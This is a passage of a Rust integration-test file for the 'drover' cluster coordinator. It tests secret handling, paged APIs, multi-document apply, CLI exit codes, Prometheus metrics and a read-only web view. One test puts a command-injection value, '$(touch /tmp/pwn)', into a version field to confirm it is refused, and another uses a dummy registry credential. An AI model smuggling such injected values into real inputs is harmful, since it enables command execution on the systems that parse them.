    .unwrap();
    let ranges: std::collections::BTreeSet<String> =
        ranges.split_whitespace().map(str::to_owned).collect();
    assert_eq!(subnets.len(), 2, "{subnets:?}");
    assert_eq!(subnets, ranges);
    // Each Node carries its machine's providerID, drover://<cluster>/<machine>.
    let ids: std::collections::BTreeSet<String> = kube::provider_ids(&kubeconfig)
        .unwrap()
        .into_values()
        .collect();
    let machines: std::collections::BTreeSet<String> = c
        .machines()
        .iter()
        .filter(|m| m["spec"]["assignment"]["cluster"] == "imgnet")
        .map(|m| {
            format!(
                "drover://imgnet/{}",
                m["metadata"]["name"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(ids, machines);
    assert_eq!(
        kube::jsonpath(
            &kubeconfig,
            &["configmap", "drover-cni"],
            "kube-system",
            "{.metadata.managedFields[*].manager}"
        )
        .unwrap(),
        "drover"
    );
    assert_eq!(
        kubectl(
            &kubeconfig,
            &["get", "namespace", "team", "-o", "jsonpath={.status.phase}"]
        )
        .unwrap(),
        "Active"
    );
    wait_for("the cluster Ready", BOOT, || {
        let got = cluster_condition(&c.cluster("imgnet").unwrap(), "Ready");
        (got.0 == "True").then_some(()).ok_or(format!("{got:?}"))
    });
}

#[test]
fn a_file_from_a_secret_lands_on_its_machines_and_its_value_is_never_shown() {
    let (tmp, c, agents) = registered_pool(2, "sec-");
    let value = "{\"auths\":{\"registry.example\":{\"auth\":\"czNjcjN0LXRva2Vu\"}}}";
    let secret = |keys: &str| {
        let f = tmp.path().join(format!("secret-{}.yaml", rand_suffix()));
        std::fs::write(
            &f,
            format!(
                "apiVersion: drover.dev/v1alpha1
kind: Secret
metadata:
  name: registry
stringData:
{keys}"
            ),
        )
        .unwrap();
        f
    };
    let doc = cluster_reading_secret("sec", "registry", &bridge_cni_files(), "dev");
    let cluster_file = tmp.path().join("sec.yaml");
    std::fs::write(&cluster_file, &doc).unwrap();

    // Before the Secret exists the cluster is refused, naming the file and
    // what to do; nothing is stored.
    let err = c.cli_refused(&["apply", "-f", cluster_file.to_str().unwrap()]);
    assert!(
        err.contains("spec.workerPools[0].files[0].contentFrom")
            && err.contains("secret \"registry\" does not exist; apply it first"),
        "{err}"
    );
    assert!(c.cluster("sec").is_none());

    // A Secret with another key: the cluster is refused naming the keys.
    let other = secret("  token: x\n");
    c.cli_ok(&["apply", "-f", other.to_str().unwrap()]);
    let err = c.cli_refused(&["apply", "-f", cluster_file.to_str().unwrap()]);
    assert!(
        err.contains("has no key \"auth.json\" (its keys: token)"),
        "{err}"
    );

    // With the key, the apply passes; the answer shows keys, never values.
    let with_key = secret(&format!("  token: x\n  auth.json: '{value}'\n"));
    let out = c.cli_ok(&["apply", "-f", with_key.to_str().unwrap()]);
    assert!(
        out.contains("secret/registry applied (generation 2, keys auth.json, token)"),
        "{out}"
    );
    let listed = c.cli_ok(&["get", "secrets", "-o", "json"]);
    let list: serde_json::Value = serde_json::from_str(&listed).unwrap();
    assert_eq!(list[0]["keys"][0]["key"], "auth.json");
    assert_eq!(list[0]["keys"][0]["bytes"], value.len());
    assert!(!listed.contains("czNjcjN0"), "{listed}");
    // Viewers reach no Secret, not even its key names.
    let viewer = c.create_admin_token("viewer");
    let api = c.api(None);
    api.send("GET", "/v1/secrets", Some(&viewer), None)
        .assert_problem(403, "Secrets are for admin tokens only");
    api.send("GET", "/v1/secrets/registry", Some(&viewer), None)
        .assert_problem(403, "viewer role");
    api.send(
        "PUT",
        "/v1/secrets/registry",
        Some(&viewer),
        Some(("application/yaml", std::fs::read(&other).unwrap())),
    )
    .assert_problem(403, "viewer role");

    c.cli_ok(&["apply", "-f", cluster_file.to_str().unwrap()]);
    c.wait_cluster_phase("sec", "Running", BOOT);
    let machines = c.machines();
    for a in &agents {
        let pool = machine_by_host(&machines, &a.hostname)["spec"]["assignment"]["machinePool"]
            .as_str()
            .unwrap()
            .to_owned();
        let path = a.root.join("etc/drover-test/auth.json");
        if pool == "default" {
            use std::os::unix::fs::PermissionsExt;
            assert_eq!(std::fs::read_to_string(&path).unwrap(), value);
            let mode = std::fs::metadata(&path).unwrap().permissions().mode();
            assert_eq!(mode & 0o777, 0o600);
        } else {
            assert!(
                !path.exists(),
                "the control plane got the worker pool's file"
            );
        }
    }
    kubeconfig_with_ready_nodes(&c, tmp.path(), "sec", 2);

    // A key the cluster reads cannot be dropped, nor the Secret deleted.
    let err = c.cli_refused(&["apply", "-f", other.to_str().unwrap()]);
    assert!(
        err.contains("data.auth.json")
            && err.contains("is read by cluster sec spec.workerPools[0].files[0].contentFrom"),
        "{err}"
    );
    let err = c.cli_refused(&["delete", "secret", "registry"]);
    assert!(
        err.contains("secret registry is read by cluster sec"),
        "{err}"
    );
    let described = c.cli_ok(&["describe", "secret", "registry"]);
    assert!(
        described.contains("cluster sec spec.workerPools[0].files[0].contentFrom (key auth.json)"),
        "{described}"
    );

    // Once no file reads it, it goes.
    std::fs::write(
        &cluster_file,
        doc.replace(
            "contentFrom: {secret: registry, key: auth.json}",
            "content: inline",
        ),
    )
    .unwrap();
    c.cli_ok(&["apply", "-f", cluster_file.to_str().unwrap()]);
    let out = c.cli_ok(&["delete", "secret", "registry"]);
    assert!(
        out.contains("secret/registry deleted (it held 2 key(s))"),
        "{out}"
    );

    // The audit log names keys and sizes, never a value; the store holds the
    // value sealed.
    let audit = c.cli_ok(&["audit", "--limit", "200", "-o", "json"]);
    assert!(
        audit.contains("secret registry key auth.json added (")
            && audit.contains("secret registry deleted"),
        "{audit}"
    );
    assert!(
        audit.contains("from secret registry key auth.json"),
        "{audit}"
    );
    for f in std::fs::read_dir(tmp.path().join("data")).unwrap() {
        let bytes = std::fs::read(f.unwrap().path()).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&bytes).contains("czNjcjN0LXRva2Vu"));
    }
    assert!(!audit.contains("czNjcjN0LXRva2Vu"));
}

/// A Secret named `name` with key `key`, as `drover apply` takes it.
fn secret_doc(name: &str, key: &str) -> String {
    format!(
        "apiVersion: drover.dev/v1alpha1
kind: Secret
metadata:
  name: {name}
stringData:
  {key}: '{{\"auths\": {{}}}}'
"
    )
}

/// Runs `drover apply -f -` with `input` on standard input.
fn apply_stdin(c: &Coordinator, input: &str) -> std::process::Output {
    use std::io::Write;
    let mut child = c
        .cli_command(&["apply", "-f", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

fn secret_names(c: &Coordinator) -> Vec<String> {
    let listed: serde_json::Value =
        serde_json::from_str(&c.cli_ok(&["get", "secrets", "-o", "json"])).unwrap();
    listed
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["metadata"]["name"].as_str().unwrap().to_owned())
        .collect()
}

/// `GET /v1/clusters?limit=N` answers N clusters and names the next page
/// (`Link`, `Drover-Continue`) until the last; `drover get` reads lists
/// in pages and shows what one answer shows; a bad limit or token is
/// refused with a problem document saying what to do.
#[test]
fn lists_come_in_pages_that_name_the_next() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::in_process(tmp.path(), CoordinatorOptions::default());
    let names: Vec<String> = (0..7).map(|i| format!("paged-{i}")).collect();
    let docs: String = names
        .iter()
        .map(|n| pool_cluster_yaml(n, 1, 0, "nowhere"))
        .collect::<Vec<_>>()
        .join("---\n");
    c.apply_yaml(tmp.path(), &docs);
    let api = c.api(None);
    let token = c.client_config_token();

    let mut listed = vec![];
    let mut path = "/v1/clusters?limit=3".to_owned();
    let mut pages = 0;
    loop {
        let a = api.send("GET", &path, Some(&token), None);
        assert_eq!(a.status, 200, "{a:?}");
        pages += 1;
        let page: Vec<String> = a
            .json()
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["metadata"]["name"].as_str().unwrap().to_owned())
            .collect();
        assert!(page.len() <= 3, "{page:?}");
        listed.extend(page);
        let Some(link) = a.headers.get("link") else {
            assert!(a.headers.get("drover-continue").is_none(), "{a:?}");
            break;
        };
        let link = link.to_str().unwrap();
        let next = link
            .strip_prefix('<')
            .and_then(|l| l.strip_suffix(">; rel=\"next\""))
            .unwrap_or_else(|| panic!("not a next link: {link}"));
        let token = a.headers["drover-continue"].to_str().unwrap();
        assert!(next.ends_with(&format!("&continue={token}")), "{link}");
        path = next.to_owned();
    }
    assert_eq!(pages, 3);
    assert_eq!(listed, names);

    // The CLI pages too, and shows the same as one answer.
    let chunked = c.cli_ok(&["get", "clusters", "-o", "name", "--chunk-size", "2"]);
    let whole = c.cli_ok(&["get", "clusters", "-o", "name", "--chunk-size", "0"]);
    assert_eq!(chunked, whole);
    assert_eq!(chunked.lines().count(), 7, "{chunked}");
    let refused = c.cli(&["get", "machines", "--chunk-size", "10001"]);
    assert_eq!(refused.status.code(), Some(64), "{refused:?}");
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("--chunk-size"),
        "{refused:?}"
    );

    api.send("GET", "/v1/machines?limit=10001", Some(&token), None)
        .assert_problem(400, "ask for at most 10000 objects a page");
    api.send(
        "GET",
        "/v1/clusters?limit=2&continue=%21%21",
        Some(&token),
        None,
    )
    .assert_problem(400, "list again from the first page");
    api.send("GET", "/v1/clusters?limit=-1", Some(&token), None)
        .assert_problem(400, "limit");
    api.send("GET", "/v1/clusters?color=blue", Some(&token), None)
        .assert_problem(400, "color");
}

#[test]
fn apply_takes_several_documents_a_directory_and_standard_input_in_order() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::in_process(tmp.path(), CoordinatorOptions::default());

    // One file: a Secret and the Cluster that reads it, with the empty
    // documents and comments kubectl users write; one line per object.
    let file = tmp.path().join("all.yaml");
    std::fs::write(
        &file,
        format!(
            "# the registry credential and its cluster\n---\n{}---\n# nothing here\n---\n{}---\n",
            secret_doc("registry", "auth.json"),
            cluster_reading_secret("multi", "registry", "", "nowhere")
        ),
    )
    .unwrap();
    let out = c.cli_ok(&["apply", "-f", file.to_str().unwrap()]);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert_eq!(
        lines[0],
        "secret/registry applied (generation 1, keys auth.json)"
    );
    assert!(
        lines[1].starts_with("cluster/multi applied (generation 1, resourceVersion "),
        "{out}"
    );
    assert!(c.cluster("multi").is_some());

    // A directory: its .yaml, .yml and .json files in name order, nothing
    // else of it.
    let dir = tmp.path().join("manifests");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(
        dir.join("10-secret.yaml"),
        secret_doc("dir-secret", "auth.json"),
    )
    .unwrap();
    std::fs::write(
        dir.join("20-cluster.yml"),
        cluster_reading_secret("dir-cluster", "dir-secret", "", "nowhere"),
    )
    .unwrap();
    std::fs::write(dir.join("README.txt"), "not: [yaml").unwrap();
    let out = c.cli_ok(&["apply", "-f", &format!("{}/", dir.display())]);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert!(lines[0].starts_with("secret/dir-secret applied"), "{out}");
    assert!(lines[1].starts_with("cluster/dir-cluster applied"), "{out}");

    // Standard input; applying the same again configures nothing new.
    let input = format!(
        "{}---\n{}",
        secret_doc("stdin-secret", "auth.json"),
        cluster_reading_secret("stdin-cluster", "stdin-secret", "", "nowhere")
    );
    let out = apply_stdin(&c, &input);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 2, "{stdout}");
    assert!(
        lines[0].starts_with("secret/stdin-secret applied"),
        "{stdout}"
    );
    assert!(
        lines[1].starts_with("cluster/stdin-cluster applied (generation 1,"),
        "{stdout}"
    );

    // -f more than once: applied in the order given.
    let single = tmp.path().join("one.yaml");
    std::fs::write(&single, secret_doc("later", "auth.json")).unwrap();
    let out = c.cli_ok(&[
        "apply",
        "-f",
        single.to_str().unwrap(),
        "-f",
        file.to_str().unwrap(),
    ]);
    let kinds: Vec<&str> = out.lines().map(|l| l.split(' ').next().unwrap()).collect();
    assert_eq!(
        kinds,
        ["secret/later", "secret/registry", "cluster/multi"],
        "{out}"
    );

    // A file of only empty documents applies nothing and says so.
    let empty = tmp.path().join("empty.yaml");
    let err = c.apply_refused(&empty, "---\n# nothing\n---\n");
    assert!(err.contains("nothing to apply"), "{err}");
}

#[test]
fn apply_stops_at_the_first_refused_document_naming_it() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::in_process(tmp.path(), CoordinatorOptions::default());

    // The coordinator refuses document 2 (a version outside SemVer's
    // grammar); document 1 stays applied, document 3 is never sent.
    let file = tmp.path().join("refused.yaml");
    let bad = cluster_reading_secret("bad", "first", "", "nowhere")
        .replace("v1.31.2", "\"v1.31.2-x;$(touch /tmp/pwn)\"");
    std::fs::write(
        &file,
        format!(
            "{}---\n{bad}---\n{}",
            secret_doc("first", "auth.json"),
            secret_doc("third", "auth.json")
        ),
    )
    .unwrap();
    let out = c.cli(&["apply", "-f", file.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{stdout}");
    assert!(
        err.contains(&format!(
            "{} document 2 (line 7) (cluster/bad) was refused; the object before it was applied, none after it",
            file.display()
        )) && err.contains("spec.kubernetesVersion")
            && err.contains("pre-release identifier"),
        "{err}"
    );
    assert_eq!(stdout.lines().count(), 1, "{stdout}");
    assert_eq!(secret_names(&c), ["first"]);
    assert!(c.cluster("bad").is_none());

    // The coordinator's schema errors name the file's line and show it.
    let typo = cluster_reading_secret("typo", "first", "", "nowhere").replace(
        "  controlPlane:\n    replicas: 1",
        "  controlPlane:\n    replicas: two",
    );
    let err = c.apply_refused(
        &file,
        &format!("{}---\n{typo}", secret_doc("first", "auth.json")),
    );
    assert!(
        err.contains("document 2 (line 7) (cluster/typo) was refused")
            && err.contains("at line 15, column 15, in \"replicas: two\""),
        "{err}"
    );
    for library in ["from_str", "Options", "<input>", "-->"] {
        assert!(!err.contains(library), "{library}: {err}");
    }

    // What the CLI can tell itself (a kind it cannot apply, YAML that does
    // not parse) is refused before anything is sent, naming the document,
    // in words for people.
    let local = tmp.path().join("local.yaml");
    let err = c.apply_refused(
        &local,
        &format!(
            "{}---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: x\n",
            secret_doc("never", "auth.json")
        ),
    );
    assert!(
        err.contains("local.yaml document 2 (line 7): kind \"Pod\" cannot be applied")
            && err.contains("nothing was applied"),
        "{err}"
    );
    let err = c.apply_refused(
        &local,
        &format!(
            "{}---\nkind: Secret\nkind: Secret\n",
            secret_doc("never", "auth.json")
        ),
    );
    assert!(
        err.contains("local.yaml document 2 (line 7): not valid YAML: duplicate mapping key")
            && err.contains("at line 9"),
        "{err}"
    );
    for library in ["from_str", "Options", "<input>"] {
        assert!(!err.contains(library), "{library}: {err}");
    }
    assert_eq!(secret_names(&c), ["first"]);
}

#[test]
fn token_create_checks_its_output_before_the_token_exists() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::start(tmp.path(), CoordinatorOptions::default());
    let tokens = || {
        c.cli_ok(&["token", "list"])
            .lines()
            .skip(1)
            .map(str::to_owned)
            .collect::<Vec<_>>()
    };

    // A bare relative file name is written in the current directory.
    let out = c
        .cli_command(&["token", "create", "--pool", "default", "-o", "boot.yaml"])
        .current_dir(tmp.path())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(std::fs::read_to_string(tmp.path().join("boot.yaml"))
        .unwrap()
        .contains("ticket"));
    assert_eq!(tokens().len(), 1);

    // A path that cannot be written is refused before the token is made.
    let file = tmp.path().join("a-file");
    std::fs::write(&file, "x").unwrap();
    for bad in [file.join("boot.yaml"), tmp.path().to_owned()] {
        let err = c.cli_refused(&[
            "token",
            "create",
            "--pool",
            "default",
            "-o",
            bad.to_str().unwrap(),
        ]);
        assert!(
            err.contains(&format!("cannot write {}", bad.display())),
            "{err}"
        );
        assert_eq!(tokens().len(), 1, "no token was left behind");
    }
}

#[test]
fn the_cli_prints_names_watches_and_says_why_it_failed_in_its_exit_code() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::start(tmp.path(), CoordinatorOptions::default());

    // Both versions; the client's alone without asking.
    let out = c.cli_ok(&["version"]);
    let version = env!("CARGO_PKG_VERSION");
    assert!(
        out.starts_with(&format!(
            "client: drover {version}\nserver: drover {version} (replica "
        )),
        "{out}"
    );
    assert!(out.trim_end().ends_with(", leader)"), "{out}");
    // 69: the coordinator cannot be reached (after the client's line).
    let dead = format!("https://127.0.0.1:{}", free_port());
    let out = c.cli(&["version", "--addr", &dead]);
    assert_eq!(out.status.code(), Some(69), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("client: drover "));
    assert!(String::from_utf8_lossy(&out.stderr)
        .contains(&format!("cannot reach the coordinator at {dead}")));
    // 64: nothing says where the coordinator is; a bad flag.
    let out = std::process::Command::new(bin("drover"))
        .args(["get", "clusters"])
        .env("DROVER_CONFIG", tmp.path().join("none.yaml"))
        .env_remove("DROVER_ADDR")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(64), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("no coordinator address"));
    assert_eq!(
        c.cli(&["get", "clusters", "--output", "csv"]).status.code(),
        Some(64)
    );
    // 1: the coordinator answered no.
    assert_eq!(
        c.cli(&["describe", "cluster", "absent"]).status.code(),
        Some(1)
    );

    // --watch prints each machine as it registers.
    let mut watch = c
        .cli_command(&["get", "machines", "--watch"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let lines = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let reader = {
        let lines = lines.clone();
        let stdout = watch.stdout.take().unwrap();
        std::thread::spawn(move || {
            use std::io::BufRead;
            for l in std::io::BufReader::new(stdout)
                .lines()
                .map_while(Result::ok)
            {
                lines.lock().unwrap().push(l);
            }
        })
    };
    wait_for("the watch's header", BOOT, || {
        let l = lines.lock().unwrap();
        (l.first().is_some_and(|h| h.starts_with("NAME")))
            .then_some(())
            .ok_or(format!("{l:?}"))
    });
    let boot = tmp.path().join("boot.yaml");
    c.token("default", "env=dev", 2, "1h", &boot);
    let _agents = start_agents(tmp.path(), &boot, 2, "m", "watch-");
    wait_registered(&c, 2);
    let names: Vec<String> = c
        .machines()
        .iter()
        .map(|m| m["metadata"]["name"].as_str().unwrap().to_owned())
        .collect();
    wait_for("both machines in the watch", BOOT, || {
        let l = lines.lock().unwrap();
        names
            .iter()
            .all(|n| l.iter().any(|line| line.starts_with(n.as_str())))
            .then_some(())
            .ok_or(format!("{l:#?}"))
    });
    let _ = watch.kill();
    let _ = watch.wait();
    reader.join().unwrap();

    // -o name on get and describe; describe -o json is the object.
    let mut listed: Vec<String> = c
        .cli_ok(&["get", "machines", "-o", "name"])
        .lines()
        .map(str::to_owned)
        .collect();
    listed.sort();
    let mut want: Vec<String> = names.iter().map(|n| format!("machine/{n}")).collect();
    want.sort();
    assert_eq!(listed, want);
    let described: serde_json::Value =
        serde_json::from_str(&c.cli_ok(&["describe", "machine", &names[0], "-o", "json"])).unwrap();
    assert_eq!(described["metadata"]["name"], names[0].as_str());
    assert_eq!(
        c.cli_ok(&["describe", "machine", &names[0], "-o", "name"]),
        format!("machine/{}\n", names[0])
    );
    let yaml = c.cli_ok(&["describe", "machine", &names[0], "-o", "yaml"]);
    assert!(yaml.contains(&format!("name: {}", names[0])), "{yaml}");
}

/// A Prometheus server started for a test, stopped when dropped.
struct PrometheusServer(std::process::Child);

impl Drop for PrometheusServer {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn a_real_prometheus_scrapes_the_coordinator_and_promtool_accepts_its_metrics() {
    let (tmp, c, _agents) = registered_pool(2, "prom-");
    // A viewer token is enough to scrape.
    let viewer = c.create_admin_token("viewer");
    let api = c.api(None);
    api.send("GET", "/metrics", None, None)
        .assert_problem(401, "Authorization");

    // A cluster waiting for machines has conditions; their series, which
    // the fleet summary renders itself, pass promtool with the rest.
    c.apply_yaml(
        tmp.path(),
        &pool_cluster_yaml("prom-waits", 1, 0, "nowhere"),
    );
    // The classic text format passes promtool's parser and its lint.
    let scraped = wait_for(
        "the waiting cluster's condition series",
        Duration::from_secs(30),
        || {
            let a = api.send("GET", "/metrics", Some(&viewer), None);
            if a.body.contains("drover_cluster_condition{cluster=\"prom-waits\",condition=\"Ready\",status=\"False\"") {
                Ok(a)
            } else {
                Err(format!("{} {}", a.status, a.body.len()))
            }
        },
    );
    assert_eq!(scraped.status, 200, "{scraped:?}");
    assert!(
        scraped
            .content_type
            .starts_with("text/plain; version=0.0.4"),
        "{scraped:?}"
    );
    let mut promtool = std::process::Command::new("promtool")
        .args(["check", "metrics"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("promtool (Debian package prometheus; scripts/setup-host installs it)");
    {
        use std::io::Write;
        promtool
            .stdin
            .take()
            .unwrap()
            .write_all(scraped.body.as_bytes())
            .unwrap();
    }
    let checked = promtool.wait_with_output().unwrap();
    assert!(
        checked.status.success() && checked.stdout.is_empty() && checked.stderr.is_empty(),
        "promtool check metrics: {checked:?}\n{}",
        scraped.body
    );
    for line in scraped.body.lines().filter(|l| !l.starts_with('#')) {
        assert!(line.starts_with("drover_"), "{line}");
    }

    // A real Prometheus scrapes it over TLS with the viewer token.
    let token_file = tmp.path().join("prometheus-token");
    std::fs::write(&token_file, &viewer).unwrap();
    let port = free_port();
    let config = tmp.path().join("prometheus.yml");
    std::fs::write(
        &config,
        format!(
            "global:
  scrape_interval: 1s
  evaluation_interval: 1s
rule_files:
  - {rules}
scrape_configs:
  - job_name: drover
    scheme: https
    tls_config:
      ca_file: {ca}
    authorization:
      credentials_file: {token}
    static_configs:
      - targets: ['{target}']
",
            ca = tmp.path().join("data/ca.crt").display(),
            rules = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../images/prometheus/drover-alerts.yml")
                .display(),
            token = token_file.display(),
            target = c.url().trim_start_matches("https://"),
        ),
    )
    .unwrap();
    let log = std::fs::File::create(tmp.path().join("prometheus.log")).unwrap();
    let _prometheus = PrometheusServer(
        std::process::Command::new("prometheus")
            .arg(format!("--config.file={}", config.display()))
            .arg(format!(
                "--storage.tsdb.path={}",
                tmp.path().join("tsdb").display()
            ))
            .arg(format!("--web.listen-address=127.0.0.1:{port}"))
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .expect("prometheus (Debian package prometheus; scripts/setup-host installs it)"),
    );
    let rt = tokio::runtime::Runtime::new().unwrap();
    // Plain HTTP to Prometheus; reqwest still wants a TLS provider chosen.
    let _ = rustls::crypto::ring::default_provider().install_default();
    let http = reqwest::Client::new();
    let query = |q: &str| -> Result<Vec<serde_json::Value>, String> {
        let url = format!(
            "http://127.0.0.1:{port}/api/v1/query?{}",
            form_urlencoded::Serializer::new(String::new())
                .append_pair("query", q)
                .finish()
        );
        let r: serde_json::Value = rt
            .block_on(async { http.get(&url).send().await?.json().await })
            .map_err(|e| e.to_string())?;
        r["data"]["result"]
            .as_array()
            .cloned()
            .ok_or(format!("{r}"))
    };
    let value = |s: &serde_json::Value| -> f64 { s["value"][1].as_str().unwrap().parse().unwrap() };
    wait_for("Prometheus to scrape the coordinator", BOOT, || {
        let up = query("up{job=\"drover\"}")?;
        (up.len() == 1 && value(&up[0]) == 1.0)
            .then_some(())
            .ok_or(format!(
                "{up:?}; log: {}",
                std::fs::read_to_string(tmp.path().join("prometheus.log")).unwrap_or_default()
            ))
    });
    wait_for(
        "the machines and their heartbeats in Prometheus",
        BOOT,
        || {
            let machines = query("sum(drover_machines{phase=\"Registered\"})")?;
            let beats = query("sum(drover_heartbeats_total{result=\"accepted\"})")?;
            let leader = query("drover_leader")?;
            let ok = machines.first().map(value) == Some(2.0)
                && beats.first().map(value).unwrap_or(0.0) > 0.0
                && leader.first().map(value) == Some(1.0);
            ok.then_some(()).ok_or(format!(
                "machines {machines:?} heartbeats {beats:?} leader {leader:?}"
            ))
        },
    );
    // The README's alert rules load and evaluate against these series
    // (healthy machines: none fires), in an evaluation after they were
    // scraped: one before would find nothing to fire on (so a rule that
    // fires on a healthy coordinator, as DroverLoopStalled once did for
    // the registration committer, passed whenever Prometheus evaluated
    // first).
    let scraped = OffsetDateTime::now_utc();
    wait_for("the alert rules evaluated", BOOT, || {
        let r: serde_json::Value = rt
            .block_on(async {
                http.get(format!("http://127.0.0.1:{port}/api/v1/rules"))
                    .send()
                    .await?
                    .json()
                    .await
            })
            .map_err(|e| e.to_string())?;
        let rules: Vec<&serde_json::Value> = r["data"]["groups"]
            .as_array()
            .into_iter()
            .flatten()
            .flat_map(|g| g["rules"].as_array().into_iter().flatten())
            .collect();
        let names: Vec<&str> = rules.iter().filter_map(|r| r["name"].as_str()).collect();
        let after_scrape = |r: &&serde_json::Value| {
            r["lastEvaluation"]
                .as_str()
                .and_then(|t| OffsetDateTime::parse(t, &Rfc3339).ok())
                .is_some_and(|t| t > scraped)
        };
        if !rules.iter().all(after_scrape) {
            return Err(format!("not evaluated since {scraped}: {r}"));
        }
        let evaluated = rules.len() == 5
            && rules
                .iter()
                .all(|r| r["health"] == "ok" && r["state"] == "inactive");
        evaluated.then_some(()).ok_or(format!("{names:?}: {r}"))
    });
    // A histogram Prometheus takes quantiles of: the heartbeats' p99 (quiet
    // machines heartbeat by datagram).
    wait_for("a heartbeat latency quantile", BOOT, || {
        let p99 = query(
            "histogram_quantile(0.99, sum by (le) (rate(drover_machine_request_duration_seconds_bucket{operation=~\"heartbeat|datagram\"}[1m])))",
        )?;
        match p99.first().map(value) {
            Some(v) if v.is_finite() && v > 0.0 => Ok(()),
            _ => Err(format!("{p99:?}")),
        }
    });
}

#[test]
fn the_web_view_shows_what_the_api_says_in_a_real_browser_and_changes_nothing() {
    use drover_tests::browser::Browser;
    let (tmp, c, _agents) = registered_pool(2, "ui-");
    apply(&c, tmp.path(), &pool_cluster_yaml("web", 1, 1, "dev"));
    c.wait_cluster_phase("web", "Running", BOOT);
    kubeconfig_with_ready_nodes(&c, tmp.path(), "web", 2);
    wait_for("the cluster to list its Nodes", BOOT, || {
        let n = c.cluster("web").unwrap()["status"]["nodes"]
            .as_array()
            .map_or(0, Vec::len);
        (n == 2).then_some(()).ok_or(format!("{n} nodes"))
    });
    let viewer = c.create_admin_token("viewer");
    let ui = format!("{}/ui", c.url());
    let b = Browser::start();

    // Not signed in: the sign-in page. A wrong token is refused.
    b.go(&ui);
    assert!(b.url().ends_with("/ui/login"), "{}", b.url());
    b.screenshot("login");
    b.type_into("#token", "not-a-token");
    b.click("#sign-in");
    wait_for("the refusal", BOOT, || {
        let e = b.find_all("#login-error");
        (!e.is_empty()).then_some(()).ok_or(b.url())
    });
    assert!(b.text_of("#login-error").contains("not an admin token"));

    // Signed in with a viewer token: the overview counts what the API lists.
    b.type_into("#token", &viewer);
    b.click("#sign-in");
    b.wait_url("/ui");
    assert!(
        b.text_of("#who").ends_with("viewer"),
        "{}",
        b.text_of("#who")
    );
    let machines = c.machines();
    assert_eq!(b.text_of("#cluster-count"), "1");
    assert_eq!(b.text_of("#machine-count"), machines.len().to_string());
    assert!(
        b.text_of("#machine-phases").contains("Running 2"),
        "{}",
        b.text_of("#machine-phases")
    );
    assert!(b.text_of("#hour-totals").contains("heartbeats accepted"));
    assert_eq!(b.find_all("svg rect.hb").len(), 60);
    b.screenshot("overview");

    // Clusters: the phase the API reports.
    let cluster = c.cluster("web").unwrap();
    b.go(&format!("{ui}/clusters"));
    let table = b.text_of("#clusters");
    assert!(
        table.contains(&format!(
            "web {}",
            cluster["status"]["phase"].as_str().unwrap()
        )),
        "{table}"
    );
    b.screenshot("clusters");
    b.go(&format!("{ui}/clusters/web"));
    assert_eq!(
        b.text_of("#phase"),
        cluster["status"]["phase"].as_str().unwrap()
    );
    let nodes = b.text_of("#nodes");
    for n in cluster["status"]["nodes"].as_array().unwrap() {
        assert!(nodes.contains(n["name"].as_str().unwrap()), "{nodes}");
    }
    b.screenshot("cluster");

    // Machines: every one with its phase; one in detail with its events.
    b.go(&format!("{ui}/machines"));
    let table = b.text_of("#machines");
    for m in &machines {
        let line = format!("{} web", m["metadata"]["name"].as_str().unwrap());
        assert!(table.contains(&line), "{line} not in {table}");
    }
    b.screenshot("machines");
    let m = &machines[0];
    let name = m["metadata"]["name"].as_str().unwrap();
    b.go(&format!("{ui}/machines/{name}"));
    assert_eq!(b.text_of("#phase"), m["status"]["phase"].as_str().unwrap());
    assert_eq!(b.text_of("#health"), "healthy");
    let events = b.text_of("#events");
    let last = m["status"]["events"].as_array().unwrap().last().unwrap();
    assert!(
        events.contains(last["reason"].as_str().unwrap()),
        "{events}"
    );
    assert!(!b.text_of("#last-heartbeat").is_empty());
    b.screenshot("machine");

    // Nothing on any page writes: the only form signs out; no script and
    // no inline style (the Content-Security-Policy would refuse them); no
    // token on the page.
    for page in [
        "",
        "/clusters",
        "/clusters/web",
        "/machines",
        &format!("/machines/{name}"),
    ] {
        b.go(&format!("{ui}{page}"));
        let forms = b.find_all("form");
        assert_eq!(forms.len(), 1, "{page}");
        assert!(
            b.attribute(&forms[0], "action")
                .unwrap()
                .ends_with("/ui/logout"),
            "{page}"
        );
        let source = b.source();
        assert!(
            !source.contains("<script") && !source.contains(" style="),
            "{page}: {source}"
        );
        assert!(
